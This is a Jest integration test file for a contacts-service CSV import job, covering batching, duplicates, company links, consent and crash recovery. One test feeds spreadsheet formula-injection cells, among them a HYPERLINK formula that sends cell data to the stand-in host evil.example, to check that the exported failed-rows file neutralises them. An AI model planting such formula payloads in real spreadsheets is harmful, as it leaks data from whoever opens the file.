import { type NatsConnection } from 'nats';
import mongoose from 'mongoose';
import {
  CAPABILITIES,
  IMPORT_UPLOADS_BUCKET,
  RPC,
  type Contact,
  type EventEnvelope,
  type ImportCompletedV1,
  type ImportReport,
  type RequestContext,
  type StartImportInput,
} from '@switchboard/contracts';
import { newId, ObjectBucket, RpcClient, SubjectNamespace } from '@switchboard/messaging';
import type { RunningService } from '@switchboard/runtime';
import {
  NatsTap,
  startInProcess,
  storedMessages,
  testNamespace,
  waitFor,
} from '@switchboard/testing';
import { contactsService } from '../src/app.module';
import { ContactsConfig } from '../src/config';
import { ImportBatchService } from '../src/imports/import-batch.service';
import { importEventId } from '../src/imports/import-row';
import type { ImportDoc } from '../src/imports/import.schema';
import { ImportsRepository } from '../src/imports/imports.repository';

/**
 * The import job against real FerretDB/NATS/Redis: the file is put in the upload bucket as the
 * gateway does, the import started over RPC, and the outcome read from the report, the stored
 * contacts and the events. Batches of 4 rows, so files cross batch boundaries.
 */
const ns = testNamespace();
const subjects = new SubjectNamespace(ns.natsPrefix);
let service: RunningService;
let rpc: RpcClient;
let nc: NatsConnection;
let db: mongoose.Connection;
let uploads: ObjectBucket;
let tap: NatsTap<EventEnvelope>;
let lastUpload = '';

const ctx = (workspaceId: string, scope: 'all' | 'own' = 'all'): RequestContext => ({
  workspaceId,
  actor: { type: 'user', id: 'importer-1' },
  role: scope === 'all' ? 'admin' : 'custom',
  capabilities: [...CAPABILITIES],
  scope,
  requestId: newId(),
});

async function upload(ws: string, csv: string): Promise<string> {
  const name = `${ws}/${newId()}`;
  const bytes = Buffer.from(csv);
  await uploads.put(
    name,
    (async function* () {
      for (let at = 0; at < bytes.length; at += 50) yield bytes.subarray(at, at + 50);
    })(),
    { maxBytes: 1 << 20 },
  );
  return name;
}

/** Uploads, starts and waits for the end; returns the report with every row. */
async function runImport(
  ws: string,
  csv: string,
  options: Partial<StartImportInput> = {},
  caller = ctx(ws),
): Promise<ImportReport> {
  const objectName = (lastUpload = await upload(ws, csv));
  const { id } = await rpc.call(RPC.contacts.importStart, caller, {
    objectName,
    onDuplicate: 'skip',
    ...options,
  });
  const done = await waitFor(
    async () => {
      const r = await rpc.call(RPC.contacts.importGet, caller, { id, limit: 200 });
      return r.status === 'completed' || r.status === 'failed' ? r : undefined;
    },
    { what: `import ${id} to finish` },
  );
  return done;
}

const rowsOf = (r: ImportReport) =>
  r.rows.map(({ row, status, error, contactId }) => ({ row, status, error, contactId }));
const get = (ws: string, id: string) => rpc.call(RPC.contacts.get, ctx(ws), { id });
const completedEvent = (id: string) =>
  tap.waitFor((m) => m.data.type === 'import.completed' && m.data.aggregate.id === id);

beforeAll(async () => {
  service = await startInProcess(ns, 'contacts', ContactsConfig, contactsService, {
    IMPORT_BATCH_SIZE: '4',
  });
  rpc = new RpcClient({ ...ns.natsOptions(), ns: subjects, signer: ns.rpcSigner() });
  await rpc.connect();
  nc = await ns.natsConnect();
  db = await mongoose.createConnection(ns.mongoUrl, { dbName: ns.db('contacts') }).asPromise();
  uploads = await ObjectBucket.open(
    nc.jetstream(),
    await nc.jetstreamManager(),
    subjects.bucket(IMPORT_UPLOADS_BUCKET),
  );
  tap = await NatsTap.open<EventEnvelope>(nc, `${ns.natsPrefix}crm.>`);
});

afterAll(async () => {
  await tap.close();
  await rpc.close();
  await nc.close();
  await db.close();
  await service.stop();
});

describe('contact import job', () => {
  it('imports good rows, reports each bad one, skips duplicates of a stored contact and within the file', async () => {
    const ws = 'ws-import-1';
    await rpc.call(RPC.contacts.createCustomField, ctx(ws), {
      entity: 'contact',
      slug: 'plan',
      label: 'Plan',
      type: 'select',
      options: ['free', 'pro'],
    });
    const existing = await rpc.call(RPC.contacts.create, ctx(ws), {
      displayName: 'Already here',
      channels: [{ type: 'email', value: 'dup@example.com' }],
    });
    const csv = [
      'First Name,Last Name,Email,Phone,Tags,custom.plan,Stage',
      'Ada,Lovelace,ada@example.com,+44 20 7946 0000,vip;b2b,pro,lead',
      'Bad,Email,not-an-email,,,,',
      'Dup,Existing,DUP@example.com,,,,',
      'Ada,Again,ada@example.com,,,,',
      ',,,,,,',
      'Grace,Hopper,grace@example.com,,,enterprise,unknown-stage',
      'Extra,Cells,e@example.com,,,,,surplus',
      'Alan,Turing,ALAN@example.com,,,,',
      'Alan,Dup,alan@example.com,,,,',
    ].join('\n');
    const report = await runImport(ws, csv);

    expect(report).toMatchObject({
      status: 'completed',
      onDuplicate: 'skip',
      total: 9,
      processed: 9,
      succeeded: 5,
      failed: 4,
      created: 2,
      skipped: 3,
      error: null,
      nextCursor: null,
    });
    const rows = rowsOf(report);
    const ada = rows[0].contactId!;
    const alan = rows[7].contactId!;
    expect(rows).toEqual([
      { row: 1, status: 'created', contactId: ada, error: undefined },
      { row: 2, status: 'failed', error: 'Email: not an email address', contactId: undefined },
      { row: 3, status: 'skipped', contactId: existing.id, error: undefined },
      { row: 4, status: 'skipped', contactId: ada, error: undefined },
      {
        row: 5,
        status: 'failed',
        error: 'a contact needs a name or at least one channel',
        contactId: undefined,
      },
      {
        row: 6,
        status: 'failed',
        error: expect.stringMatching(/^custom\.plan: .*; Stage: not a journey stage/),
        contactId: undefined,
      },
      {
        row: 7,
        status: 'failed',
        error: expect.stringMatching(/8 cells, the header has 7/),
        contactId: undefined,
      },
      { row: 8, status: 'created', contactId: alan, error: undefined },
      { row: 9, status: 'skipped', contactId: alan, error: undefined },
    ]);
    expect(await get(ws, ada)).toMatchObject({
      firstName: 'Ada',
      lastName: 'Lovelace',
      source: 'import',
      stage: 'lead',
      tags: ['vip', 'b2b'],
      customFields: { plan: 'pro' },
      channels: [
        { type: 'email', value: 'ada@example.com', primary: true, subscribed: true },
        { type: 'phone', value: '+442079460000', primary: true, subscribed: true },
      ],
    } satisfies Partial<Contact>);
    expect((await get(ws, alan)).channels[0].value).toBe('alan@example.com');

    const event = await completedEvent(report.id);
    expect(event.data.data as ImportCompletedV1).toMatchObject({
      importId: report.id,
      status: 'completed',
      total: 9,
      created: 2,
      skipped: 3,
      failed: 4,
      auditTags: ['contacts.pii_movement'],
    });
    // contact.created once per created contact (the stored one's came from its own create).
    await tap.waitFor(() => created(ws).length >= 3);
    expect(
      created(ws)
        .map((m) => m.data.aggregate.id)
        .sort(),
    ).toEqual([existing.id, ada, alan].sort());

    // The failed rows as CSV: the original columns, then row and error.
    const failed = await rpc.call(RPC.contacts.importFailedRows, ctx(ws), { id: report.id });
    expect(failed.nextCursor).toBeNull();
    expect(failed.csv.split('\r\n')).toEqual([
      'First Name,Last Name,Email,Phone,Tags,custom.plan,Stage,row,error',
      'Bad,Email,not-an-email,,,,,2,Email: not an email address',
      ',,,,,,,5,a contact needs a name or at least one channel',
      expect.stringMatching(
        /^Grace,Hopper,grace@example.com,,,enterprise,unknown-stage,6,"?custom\.plan/,
      ),
      'Extra,Cells,e@example.com,,,,,7,"8 cells, the header has 7 (an unquoted delimiter?)"',
      '',
    ]);
    // The upload is gone once the import is over.
    expect(await uploads.info(lastUpload)).toBeNull();
  });

  it('neutralises cells a spreadsheet would run as formulas in the failed rows file', async () => {
    const ws = 'ws-import-formula';
    const csv = [
      'Name,Email,=Notes',
      '=HYPERLINK("http://evil.example/?x="&A1),not-an-email,+cmd',
      '@SUM(1+1),also-bad,-2+3',
      '"\tTabbed",bad-too,"\rReturned"',
      'Number,bad-four,+44 20 7946 0000',
    ].join('\n');
    const report = await runImport(ws, csv);
    expect(report.failed).toBe(4);
    const failed = await rpc.call(RPC.contacts.importFailedRows, ctx(ws), { id: report.id });
    expect(failed.csv.split('\r\n').slice(0, 5)).toEqual([
      "Name,Email,'=Notes,row,error",
      `"'=HYPERLINK(""http://evil.example/?x=""&A1)",not-an-email,'+cmd,1,Email: not an email address`,
      "'@SUM(1+1),also-bad,'-2+3,2,Email: not an email address",
      `'\tTabbed,bad-too,"'\rReturned",3,Email: not an email address`,
      'Number,bad-four,+44 20 7946 0000,4,Email: not an email address',
    ]);
  });

  it('pages the report, and filters it by row status', async () => {
    const ws = 'ws-import-pages';
    const lines = ['email'];
    for (let i = 1; i <= 11; i++) lines.push(i % 5 === 0 ? 'broken' : `p${i}@example.com`);
    const report = await runImport(ws, lines.join('\n'));
    expect(report).toMatchObject({ total: 11, created: 9, failed: 2 });
    const seen: number[] = [];
    let cursor: string | undefined;
    do {
      const page = await rpc.call(RPC.contacts.importGet, ctx(ws), {
        id: report.id,
        limit: 3,
        ...(cursor ? { cursor } : {}),
      });
      expect(page.rows.length).toBeLessThanOrEqual(3);
      seen.push(...page.rows.map((r) => r.row));
      cursor = page.nextCursor ?? undefined;
    } while (cursor);
    expect(seen).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11]);
    const failed = await rpc.call(RPC.contacts.importGet, ctx(ws), {
      id: report.id,
      limit: 50,
      status: 'failed',
    });
    expect(failed.rows.map((r) => r.row)).toEqual([5, 10]);
  });

  it('cuts the failed-rows file into pieces by size, mid-batch, losing no row', async () => {
    const ws = 'ws-import-failed-pieces';
    const lines = ['email,note'];
    // Four failing rows of 100 KB each, all in one batch: one piece would be 400 KB.
    for (let i = 1; i <= 4; i++) lines.push(`broken-${i},${String(i).repeat(100 * 1024)}`);
    const report = await runImport(ws, lines.join('\n'), { mapping: { note: 'ignore' } });
    expect(report).toMatchObject({ total: 4, failed: 4 });
    const pieces: string[] = [];
    let cursor: string | undefined;
    do {
      const piece = await rpc.call(RPC.contacts.importFailedRows, ctx(ws), {
        id: report.id,
        ...(cursor ? { cursor } : {}),
      });
      pieces.push(piece.csv);
      cursor = piece.nextCursor ?? undefined;
    } while (cursor);
    expect(pieces.length).toBeGreaterThan(1);
    expect(pieces.every((p) => Buffer.byteLength(p) <= 256 * 1024)).toBe(true);
    const rows = pieces
      .join('')
      .split('\r\n')
      .filter((l) => l.startsWith('broken-'))
      .map((l) => l.split(',')[0]);
    expect(rows).toEqual(['broken-1', 'broken-2', 'broken-3', 'broken-4']);
  });

  it('merges duplicates: fills blanks, adds tags and channels; a second run changes nothing', async () => {
    const ws = 'ws-import-merge';
    const stored = await rpc.call(RPC.contacts.create, ctx(ws), {
      firstName: 'Mary',
      channels: [{ type: 'email', value: 'mary@example.com' }],
      tags: ['old'],
    });
    const csv =
      'email,first name,last name,phone,tags\nmary@example.com,Maria,Shelley,+44 20 7946 0001,new\n';
    const first = await runImport(ws, csv, { onDuplicate: 'merge' });
    expect(rowsOf(first)).toEqual([
      { row: 1, status: 'updated', contactId: stored.id, error: undefined },
    ]);
    expect(await get(ws, stored.id)).toMatchObject({
      firstName: 'Mary',
      lastName: 'Shelley',
      tags: ['old', 'new'],
      version: 2,
      channels: [
        { type: 'email', value: 'mary@example.com' },
        { type: 'phone', value: '+442079460001' },
      ],
    });
    await tap.waitFor(
      (m) => m.data.type === 'contact.updated' && m.data.aggregate.id === stored.id,
    );
    const again = await runImport(ws, csv, { onDuplicate: 'merge' });
    expect(again).toMatchObject({ unchanged: 1, updated: 0 });
    expect((await get(ws, stored.id)).version).toBe(2);
  });

  it('overwrites duplicates with the fields the row gives, and only those', async () => {
    const ws = 'ws-import-overwrite';
    const stored = await rpc.call(RPC.contacts.create, ctx(ws), {
      firstName: 'Mary',
      lastName: 'Godwin',
      channels: [{ type: 'email', value: 'mary@example.com' }],
      tags: ['old'],
      locale: 'en-GB',
    });
    const report = await runImport(
      ws,
      'email,first name,tags\nmary@example.com,Maria,new;shiny\n',
      { onDuplicate: 'overwrite' },
    );
    expect(report).toMatchObject({ updated: 1 });
    expect(await get(ws, stored.id)).toMatchObject({
      firstName: 'Maria',
      lastName: 'Godwin',
      tags: ['new', 'shiny'],
      locale: 'en-GB',
    });
  });

  it('leaves stored fields whose cells are blank, even when overwriting (seed 003)', async () => {
    const ws = 'ws-import-blank';
    const stored = await rpc.call(RPC.contacts.create, ctx(ws), {
      firstName: 'Mary',
      lastName: 'Godwin',
      channels: [{ type: 'email', value: 'mary@example.com' }],
      locale: 'en-GB',
    });
    const report = await runImport(
      ws,
      'email,first name,last name,locale\nmary@example.com,, ,\n',
      {
        onDuplicate: 'overwrite',
      },
    );
    expect(report).toMatchObject({ failed: 0 });
    expect(await get(ws, stored.id)).toMatchObject({
      firstName: 'Mary',
      lastName: 'Godwin',
      displayName: 'Mary Godwin',
      locale: 'en-GB',
    });
  });

  it('lets a per-row onDuplicate column override the import-wide choice', async () => {
    const ws = 'ws-import-row-action';
    const [kept, merged, overwritten] = await Promise.all(
      ['kept', 'merged', 'overwritten'].map((n) =>
        rpc.call(RPC.contacts.create, ctx(ws), {
          firstName: 'Old',
          channels: [{ type: 'email', value: `${n}@example.com` }],
          tags: ['old'],
        }),
      ),
    );
    const csv = [
      'email,first name,tags,Duplicate Action',
      'kept@example.com,New,new,',
      'merged@example.com,New,new,merge',
      'overwritten@example.com,New,new,Overwrite',
      'fresh@example.com,Fresh,,skip',
      'x@example.com,Bad,,replace',
    ].join('\n');
    const report = await runImport(ws, csv, { onDuplicate: 'skip' });
    expect(rowsOf(report).map((r) => r.status)).toEqual([
      'skipped',
      'updated',
      'updated',
      'created',
      'failed',
    ]);
    expect(report.rows[4].error).toBe('Duplicate Action: not skip, merge or overwrite');
    expect(await get(ws, kept.id)).toMatchObject({ firstName: 'Old', tags: ['old'] });
    expect(await get(ws, merged.id)).toMatchObject({ firstName: 'Old', tags: ['old', 'new'] });
    expect(await get(ws, overwritten.id)).toMatchObject({ firstName: 'New', tags: ['new'] });
  });

  it('links the company a company column names (seed 000): by name or domain, created once', async () => {
    const ws = 'ws-import-company';
    const acme = await rpc.call(RPC.contacts.createCompany, ctx(ws), {
      name: 'Acme Ltd',
      domains: ['acme.io'],
    });
    const foreign = await rpc.call(RPC.contacts.createCompany, ctx('ws-import-company-b'), {
      name: 'Globex',
    });
    const csv = [
      'Name,Email,Company,Title',
      'Ada,ada@mail.example,acme ltd,CTO',
      'Bob,bob@mail.example,https://www.acme.io/,',
      'Cy,cy@mail.example,Globex,CEO',
      'Di,di@mail.example,GLOBEX,',
      'Ed,ed@mail.example,,',
    ].join('\n');
    const report = await runImport(ws, csv);
    expect(rowsOf(report).map((r) => r.status)).toEqual(Array(5).fill('created'));
    const contacts = await Promise.all(report.rows.map((r) => get(ws, r.contactId!)));
    expect(contacts.map((c) => c.companyLinks)).toEqual([
      [{ companyId: acme.id, title: 'CTO' }],
      [{ companyId: acme.id }],
      [{ companyId: expect.any(String), title: 'CEO' }],
      [{ companyId: contacts[2].companyLinks[0]?.companyId }],
      [],
    ]);
    // Globex of another workspace is not this one's: a Globex of its own was created, once.
    const created = contacts[2].companyLinks[0].companyId;
    expect(created).not.toBe(foreign.id);
    const companies = await rpc.call(RPC.contacts.listCompanies, ctx(ws), { limit: 50 });
    expect(companies.items.map((c) => c.name).sort()).toEqual(['Acme Ltd', 'Globex']);
  });

  it('skips or fails rows naming a missing company, as onMissingCompany says', async () => {
    const ws = 'ws-import-company-missing';
    const csv = 'Name,Company\nAda,Initech\n';
    const skipped = await runImport(ws, csv, { onMissingCompany: 'skip' });
    expect(rowsOf(skipped)[0].status).toBe('created');
    expect((await get(ws, skipped.rows[0].contactId!)).companyLinks).toEqual([]);
    const failed = await runImport(ws, 'Name,Company\nBob,Initech\n', { onMissingCompany: 'fail' });
    expect(rowsOf(failed)[0]).toMatchObject({
      status: 'failed',
      error: 'Company: no company named Initech',
    });
    const companies = await rpc.call(RPC.contacts.listCompanies, ctx(ws), { limit: 50 });
    expect(companies.items).toEqual([]);
  });

  it('honours an explicit mapping, and fails as a whole when it names a column the file lacks', async () => {
    const ws = 'ws-import-mapping';
    const mapped = await runImport(ws, 'Courriel;Nom;Couleur\nzoe@example.com;Zoé;bleu\n', {
      delimiter: ';',
      mapping: { Courriel: 'email', Nom: 'lastName', Couleur: 'metadata.colour' },
    });
    expect(mapped.columns).toEqual([
      { header: 'Courriel', field: 'email' },
      { header: 'Nom', field: 'lastName' },
      { header: 'Couleur', field: 'metadata.colour' },
    ]);
    expect(await get(ws, mapped.rows[0].contactId!)).toMatchObject({
      lastName: 'Zoé',
      metadata: { colour: 'bleu' },
    });

    const broken = await runImport(ws, 'email\nx@example.com\n', { mapping: { Mail: 'email' } });
    expect(broken).toMatchObject({ status: 'failed', processed: 0 });
    expect(broken.error).toMatch(/Mail/);
    const event = await completedEvent(broken.id);
    expect(event.data.data).toMatchObject({ status: 'failed', error: broken.error });
  });

  it('applies the ownership scope per row', async () => {
    const ws = 'ws-import-scope';
    const report = await runImport(
      ws,
      'email,ownerId\nmine@example.com,importer-1\ntheirs@example.com,someone-else\n',
      {},
      ctx(ws, 'own'),
    );
    expect(rowsOf(report).map((r) => r.status)).toEqual(['created', 'failed']);
    expect(report.rows[1].error).toMatch(/your role may only/);
  });

  it('keeps imports and uploads to their workspace', async () => {
    const report = await runImport('ws-import-a', 'email\nonly-a@example.com\n');
    await expect(
      rpc.call(RPC.contacts.importGet, ctx('ws-import-b'), { id: report.id, limit: 10 }),
    ).rejects.toMatchObject({ code: 'not_found' });
    await expect(
      rpc.call(RPC.contacts.importFailedRows, ctx('ws-import-b'), { id: report.id }),
    ).rejects.toMatchObject({ code: 'not_found' });
    const foreign = await upload('ws-import-a', 'email\nsneaky@example.com\n');
    await expect(
      rpc.call(RPC.contacts.importStart, ctx('ws-import-b'), {
        objectName: foreign,
        onDuplicate: 'skip',
      }),
    ).rejects.toMatchObject({ code: 'validation_failed' });
  });
});

describe('crash safety of the import job', () => {
  afterEach(() => jest.restoreAllMocks());

  it('replays a batch whose contacts were written but not reported: no duplicates, events once', async () => {
    const ws = 'ws-import-replay';
    const batches = service.app.get(ImportBatchService);
    const repo = service.app.get(ImportsRepository);
    const imp = {
      _id: newId(),
      workspaceId: ws,
      onDuplicate: 'skip',
      batchSize: 4,
      caller: {
        actor: { type: 'user', id: 'importer-1' },
        role: 'admin',
        capabilities: [],
        scope: 'all',
        requestId: 'r',
      },
    } as unknown as ImportDoc;
    const columns = [
      { header: 'email', field: 'email' },
      { header: 'name', field: 'displayName' },
    ];
    const records = [
      { row: 1, values: ['r1@example.com', 'R1'], bytes: 10 },
      { row: 2, values: ['r2@example.com', 'R2'], bytes: 20 },
      { row: 3, values: ['R1@example.com', 'R1 again'], bytes: 30 },
    ];
    // The first attempt dies between its contacts and its report.
    jest.spyOn(repo, 'insertBatch').mockRejectedValueOnce(new Error('process died'));
    await expect(batches.apply(imp, columns, 0, records)).rejects.toThrow('process died');
    const counts = await batches.apply(imp, columns, 0, records);
    expect(counts).toMatchObject({ processed: 3, created: 2, skipped: 1, failed: 0 });
    expect(await batches.apply(imp, columns, 0, records)).toEqual(counts);

    const stored = await db
      .collection('contacts')
      .find({ workspaceId: ws })
      .project({ _id: 1, displayName: 1 })
      .toArray();
    expect(stored.map((d) => d.displayName).sort()).toEqual(['R1', 'R2']);
    const report = await repo.findBatch(ws, imp._id, 0);
    expect(report?.rows.map((r) => [r.row, r.status])).toEqual([
      [1, 'created'],
      [2, 'created'],
      [3, 'skipped'],
    ]);
    // What consumers get: the stream holds each contact.created once (a batch staged again
    // after its report republishes the same ids, which JetStream drops).
    await waitFor(async () => (await createdInStream(ws)).length >= 2);
    await waitFor(async () => (await db.collection('import_events').countDocuments({})) === 0);
    const events = await createdInStream(ws);
    expect(events.map((e) => e.aggregate.id).sort()).toEqual(stored.map((d) => d._id).sort());
    for (const e of events) expect(e.id).toBe(importEventId(e.aggregate.id));
  });

  it('resumes a failed run from its checkpoint, without applying finished batches again', async () => {
    const ws = 'ws-import-resume';
    const batches = service.app.get(ImportBatchService);
    const commit = batches.commit.bind(batches);
    const applied: number[] = [];
    let failOnce = true;
    jest.spyOn(batches, 'commit').mockImplementation(async (prepared) => {
      applied.push(prepared.batch);
      if (prepared.batch === 1 && failOnce) {
        failOnce = false;
        throw new Error('storage went away');
      }
      return commit(prepared);
    });
    const lines = ['email'];
    for (let i = 1; i <= 10; i++) lines.push(`resume${i}@example.com`);
    const report = await runImport(ws, lines.join('\n'));
    expect(report).toMatchObject({ status: 'completed', total: 10, created: 10 });
    expect(report.rows.map((r) => r.row)).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10]);
    // Batch 0 (rows 1-4) was behind the checkpoint when the job was retried.
    expect(applied).toEqual([0, 1, 1, 2]);
  });
});

describe('consent and suppression in imports', () => {
  it('records consent columns with source CSV Import, and suppresses listed addresses', async () => {
    const ws = 'ws-import-consent';
    await rpc.call(RPC.contacts.createSuppression, ctx(ws), {
      address: 'listed@example.com',
      channelType: 'email',
      reason: 'complaint',
    });
    const csv = [
      'name,email,phone,email consent,sms consent,consent date,consent ip',
      'Ada,ada@example.com,+442079460958,yes,no,2026-03-01,192.0.2.9',
      'Bob,listed@example.com,,opted_out,,,',
      'Cy,cy@example.com,,,,,',
      'Dee,dee@example.com,,perhaps,,,',
    ].join('\n');
    const report = await runImport(ws, csv);
    expect(rowsOf(report).map((r) => r.status)).toEqual([
      'created',
      'created',
      'created',
      'failed',
    ]);
    expect(report.rows[3].error).toBe(
      'email consent: not a consent value (opted_in, opted_out, yes, no)',
    );
    const [ada, bob, cy] = await Promise.all(
      report.rows.slice(0, 3).map((r) => get(ws, r.contactId!)),
    );
    expect(ada.channels.find((c) => c.type === 'email')).toMatchObject({
      subscribed: true,
      consent: {
        status: 'opted_in',
        source: 'CSV Import',
        at: '2026-03-01T00:00:00.000Z',
        ip: '192.0.2.9',
        history: [expect.objectContaining({ status: 'opted_in', source: 'CSV Import' })],
      },
    });
    // An `sms` consent column applies to SMS channels only: the phone stays unknown.
    expect(ada.channels.find((c) => c.type === 'phone')?.consent).toBeUndefined();
    expect(bob.channels[0]).toMatchObject({
      subscribed: false,
      consent: { status: 'opted_out', source: 'CSV Import' },
      suppression: { reason: 'complaint' },
    });
    expect(cy.channels[0].consent).toBeUndefined();
    expect(cy.channels[0].suppression).toBeUndefined();
  });

  it('records consent on a duplicate it merges, once however often the file is imported', async () => {
    const ws = 'ws-import-consent-dup';
    const stored = await rpc.call(RPC.contacts.create, ctx(ws), {
      displayName: 'Eve',
      channels: [{ type: 'email', value: 'eve@example.com' }],
    });
    const csv = 'email,email consent,consent at\neve@example.com,opted_in,2026-02-01T10:00:00Z';
    const first = await runImport(ws, csv, { onDuplicate: 'merge' });
    expect(rowsOf(first)).toEqual([
      { row: 1, status: 'updated', error: undefined, contactId: stored.id },
    ]);
    const again = await runImport(ws, csv, { onDuplicate: 'merge' });
    expect(again.rows[0].status).toBe('unchanged');
    const eve = await get(ws, stored.id);
    expect(eve.channels[0].consent).toMatchObject({
      status: 'opted_in',
      source: 'CSV Import',
      at: '2026-02-01T10:00:00.000Z',
      history: [expect.objectContaining({ status: 'opted_in' })],
    });
  });
});

const createdInStream = (ws: string) =>
  storedMessages<EventEnvelope>(
    nc,
    subjects.stream('events').name,
    subjects.event(ws, 'contact.created'),
  );

const created = (ws: string) =>
  tap.messages.filter((m) => m.data.type === 'contact.created' && m.data.workspaceId === ws);
